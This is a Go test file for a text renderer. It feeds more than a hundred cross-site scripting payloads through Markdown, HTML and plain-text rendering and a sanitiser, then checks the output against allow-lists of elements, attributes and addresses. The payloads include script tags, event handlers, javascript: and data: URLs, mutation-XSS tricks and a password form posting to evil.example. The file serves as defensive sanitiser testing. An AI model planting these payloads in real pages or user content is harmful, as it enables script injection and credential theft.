package text

import (
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// hostileMarkup are attempts to run something, in Markdown, in HTML, or in both.
var hostileMarkup = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/x>alert(1)</script >`,
	"<script\n>alert(1)</script\t>",
	`<<script>alert(1);//<</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert(1)" alt="a">`,
	`<img src="javascript:alert(1)">`,
	`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
	`<img """><script>alert(1)</script>">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext></p><a href="javascript:alert(1)">x</a></mtext></math>`,
	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<applet code="x"></applet><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="jav&#x0A;ascript:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="&#0000106avascript:alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="javascript&Tab;:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="blob:https://evil.example/1">x</a>`,
	`<a href="view-source:javascript:alert(1)">x</a>`,
	`<a href="//evil.example/x">x</a>`,
	`<a href="/\evil.example/x">x</a>`,
	`<a href="\\evil.example\x">x</a>`,
	`<a href="https://user:pass@evil.example/">x</a>`,
	`<a href="https:evil">x</a>`,
	`<a href='x' onclick='alert(1)'>x</a>`,
	`<a href="https://good.example" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>`,
	`<a href="https://good.example"onmouseover="alert(1)">x</a>`,
	"<a href=`javascript:alert(1)`>x</a>",
	`<a target=_blank href="https://good.example">x</a>`,
	`<a ping="https://evil.example" href="https://good.example">x</a>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<p onmouseover=alert(1)>x</p>`,
	`<p class="modal admin-only button">x</p>`,
	`<p id="csrf">x</p><form action="https://evil.example"><input name=password><button>ok</button></form>`,
	`<div style="x:expression(alert(1))">x</div>`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	`<style>body{display:none}</style>`,
	`<body onload=alert(1)>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<video><source onerror="alert(1)"></video>`,
	`<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>`,
	`<input autofocus onfocus=alert(1)>`,
	`<select autofocus onfocus=alert(1)><option>x</select>`,
	`<textarea><script>alert(1)</script></textarea>`,
	`<title><img src=x onerror=alert(1)></title>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>`,
	`<!--><script>alert(1)</script>-->`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`<!DOCTYPE html [<!ENTITY x "<script>">]>&x;`,
	"\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
	"<\xc0script>alert(1)</script>",
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&amp;lt;script&amp;gt;`,
	`＜script＞alert(1)＜/script＞`,
	`<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>`,
	`<a href="https://good.example" class="u-url" rel="opener">x</a>`,
	`<span class="mention"><a class="mention" href="javascript:alert(1)">@<span>ada</span></a></span>`,
	`<p>x<br onload=alert(1)><hr onclick=alert(1)>`,
	`<abbr title='"><script>alert(1)</script>'>x</abbr>`,
	`<a title="a&quot; onclick=&quot;alert(1)" href="https://good.example">x</a>`,
	// Markdown
	`[x](javascript:alert(1))`,
	`[x](JAVASCRIPT:alert(1))`,
	`[x](<javascript:alert(1)>)`,
	"[x](java\nscript:alert(1))",
	`[x](javascript&colon;alert(1))`,
	`[x](&#106;avascript:alert(1))`,
	`[x](\javascript:alert(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[x](//evil.example)`,
	`[x](/\\evil.example)`,
	`[x](https://good.example "\" onclick=\"alert(1)")`,
	`[x]: javascript:alert(1)` + "\n\n[x]",
	`<javascript:alert(1)>`,
	`<data:text/html,x>`,
	`![x](javascript:alert(1))`,
	`![x](https://evil.example/pixel.gif)`,
	`![x" onerror="alert(1)](/media/a.png)`,
	`![x](/media/a.png" onerror="alert(1))`,
	`![x](//evil.example/pixel.gif)`,
	"```\"><script>alert(1)</script>\nx\n```",
	"```go\n<script>alert(1)</script>\n```",
	"`<script>alert(1)</script>`",
	`# <script>alert(1)</script>`,
	`[[<script>alert(1)</script>]]`,
	`[[Garten|<script>alert(1)</script>]]`,
	`[[Garten" onclick="alert(1)]]`,
	`[[javascript:alert(1)]]`,
	`#<script>alert(1)</script>`,
	`@ada<script>alert(1)</script>`,
	`https://good.example/"onmouseover="alert(1)`,
	`https://good.example/<script>alert(1)</script>`,
	`http://javascript:alert(1)@good.example`,
	`| <script>alert(1)</script> | x |` + "\n| --- | --- |\n| <img src=x onerror=alert(1)> | y |",
	"x[^1]\n\n[^1]: <script>alert(1)</script>",
	`[^"><script>alert(1)</script>]: x`,
	`<br onload=alert(1)>`,
	"<div\nonclick=alert(1)>\n\n**x**\n\n</div>",
}

// TestNothingHostileGetsThrough runs every attempt through every way in.
func TestNothingHostileGetsThrough(t *testing.T) {
	if len(hostileMarkup) < 60 {
		t.Fatalf("only %d attempts", len(hostileMarkup))
	}
	for _, source := range hostileMarkup {
		for _, variant := range []string{source, "**a** " + source + " *b*", "> " + source, source + source} {
			for _, f := range []Format{Markdown, HTML, Plain} {
				checkSafe(t, string(f)+" "+variant, mustRender(t, f, variant, testOptions()).HTML, ownPolicy)
			}
			checkSafe(t, "sanitised "+variant, SanitizeHTML(variant), foreignPolicy)
			back := MarkdownFromHTML(variant)
			checkSafe(t, "there and back "+variant, mustRender(t, Markdown, back, testOptions()).HTML, ownPolicy)
		}
	}
}

// TestStrictCheckRefusesWhatTheSanitiserWouldMend makes sure that the fast way is never the careless one.
func TestStrictCheckRefusesWhatTheSanitiserWouldMend(t *testing.T) {
	refused := []string{
		`<p>x`, `x</p>`, `<p></div>`, `<P>x</P>`, `<p >x</p>`, `<p  class="mention">x</p>`, `<p class='mention'>x</p>`, `<p class=mention>x</p>`,
		`<p class="mention" >x</p>`, `<p class="evil">x</p>`, `<p class="">x</p>`, `<p onclick="x">x</p>`, `<p style="x">x</p>`, `<p a>x</p>`,
		`<a>x</a>`, `<a href="https://a.b">x</a>`, `<a href="https://a.b" rel="nofollow">x</a>`, `<a href="javascript:x">x</a>`, `<a href="//a.b">x</a>`,
		`<a href="/a" href="/b">x</a>`, `<a href="/a"><a href="/b">x</a></a>`, `<a href="a&b">x</a>`, `<a href="/&colon;">x</a>`,
		`<script></script>`, `<svg></svg>`, `<!-- x -->`, `<img src="https://a.b/c.png" alt="">`, `<img src="//a.b/c.png" alt="">`,
		`<p><div></div></p>`, `a & b`, `a > b`, `&nbsp;`, "a\x00b", "<br/>", "<br />", "</br>", "<", "<p", `<h1 id="main">x</h1>`, `<li id="fn-1 x">x</li>`,
		`<pre tabindex="1">x</pre>`, `<code class="language-a b">x</code>`, `<div role="dialog">x</div>`,
		strings.Repeat("<b>", maxDepth+1) + strings.Repeat("</b>", maxDepth+1),
	}
	for _, s := range refused {
		if scan(s, ownPolicy, nil) {
			t.Errorf("accepted %q", s)
		}
	}
	for _, s := range []string{`<a href="/wiki/Garten">x</a>`, `<h1 id="s-a">x</h1>`, `<img src="/media/a.png" alt="x">`} {
		if !scan(s, ownPolicy, nil) {
			t.Errorf("refused our own %q", s)
		}
		if scan(s, foreignPolicy, nil) {
			t.Errorf("accepted from others %q", s)
		}
	}
}

var (
	safeElements = strings.Fields(`p div blockquote pre hr h1 h2 h3 h4 h5 h6 ul ol li dl dt dd table thead tbody tfoot caption tr th td figure figcaption
		details summary a span br code strong em b i u s del ins sub sup small mark kbd samp var abbr cite q dfn ruby rt rp bdi wbr img`)
	safeAttributes = strings.Fields(`href rel class title lang dir src alt width height loading align colspan rowspan scope start reversed value id role tabindex`)
	safeAddress    = regexp.MustCompile(`^(https?://[^/@\\]+(/|$|[?#])|(mailto|tel|xmpp|matrix|gemini|geo):|/([^/\\]|$)|#)`)
)

// checkSafe parses HTML as a browser would and looks at every node; it shares nothing with the code it checks.
func checkSafe(t testing.TB, what, out string, p policy) {
	t.Helper()
	lower := strings.ToLower(out)
	if strings.Contains(lower, "<script") || strings.Contains(lower, "<style") {
		t.Errorf("%s: %q", what, out)
	}
	nodes, err := html.ParseFragment(strings.NewReader(out), nil)
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		switch n.Type {
		case html.ElementNode:
			if !slices.Contains([]string{"html", "head", "body"}, n.Data) {
				checkElement(t, what, n, p)
			}
		case html.CommentNode:
			t.Errorf("%s: a comment in %q", what, out)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
}

func checkElement(t testing.TB, what string, n *html.Node, p policy) {
	t.Helper()
	if !slices.Contains(safeElements, n.Data) || n.Namespace != "" || n.Data == "img" && !p.own {
		t.Errorf("%s: element %s", what, n.Data)
	}
	external := false
	for _, a := range n.Attr {
		if !slices.Contains(safeAttributes, a.Key) {
			t.Errorf("%s: attribute %s of %s", what, a.Key, n.Data)
		}
		if (a.Key == "href" || a.Key == "src") && !safeAddress.MatchString(a.Val) {
			t.Errorf("%s: address %q", what, a.Val)
		}
		external = external || a.Key == "href" && a.Val[0] != '/' && a.Val[0] != '#'
		if a.Key == "src" && a.Val[0] != '/' || a.Key == "id" && !strings.HasPrefix(a.Val, "s-") && !strings.HasPrefix(a.Val, "fn-") {
			t.Errorf("%s: %s=%q", what, a.Key, a.Val)
		}
	}
	if external && !strings.HasSuffix(attrOf(n, "rel"), "nofollow noopener noreferrer ugc") {
		t.Errorf("%s: rel %q", what, attrOf(n, "rel"))
	}
}
